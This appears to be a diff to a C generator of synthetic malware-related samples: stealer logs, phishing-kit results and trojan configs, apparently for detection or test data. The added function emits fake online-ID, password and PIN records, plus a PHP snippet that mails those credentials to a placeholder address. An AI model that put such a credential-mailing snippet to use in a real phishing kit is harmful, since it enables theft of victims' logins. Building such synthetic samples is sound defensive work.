@@ -1,4 +1,4 @@
-/* make_login.c - logs of stealers, and what trojans are told to attack */
+/* make_login.c - logs of stealers, what kits took, what trojans attack */
 #include <stdio.h>
 #include <string.h>
 
@@ -71,6 +71,36 @@ make_login_log(struct rnd *r, unsigned int n, struct made *m)
 		    "- Computer: PC-%s\n- User: %s\n- HWID: %s\n\n"
 		    "- IP Address: 192.0.2.%u\n- Country: US\n\n",
 		    family, given, id, rnd_below(r, 255));
+}
+
+/* What a kit mails of a victim, and a kit that mails it. */
+void
+make_config_phishkit(struct rnd *r, unsigned int n, struct made *m)
+{
+	char given[32], family[32], user[80], pass[16], pin[8];
+
+	made_name(r, false, given, family, sizeof(given));
+	rnd_form(r, "Aa00hhXX", pass, sizeof(pass));
+	rnd_form(r, "0000", pin, sizeof(pin));
+	snprintf(user, sizeof(user), "%s.%s%u", given, family,
+	    rnd_below(r, 100));
+	made_attr(m, "form", n % 2 == 0 ? "result" : "php");
+	if (n % 2 == 0) {
+		snprintf(m->value, sizeof(m->value), "%s", user);
+		made_put(m,
+		    "--------------- Result ---------------\n"
+		    "Online ID : %s\nPassword : %s\nPIN : %s\n"
+		    "User-Agent : Mozilla/5.0 (Windows NT 10.0)\n"
+		    "--------------------------------------\n\n",
+		    user, pass, pin);
+	} else {
+		snprintf(m->value, sizeof(m->value), "%s@mail.example", user);
+		made_put(m,
+		    "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n"
+		    "$m = \"Online ID: $a\\nPassword: $b\\nPIN: $c\\n\";\n"
+		    "mail(\"%s\", \"Result\", $m);\n?>\n\n",
+		    m->value);
+	}
 }
 
 /* A mask in the configuration of a trojan, and its block. */
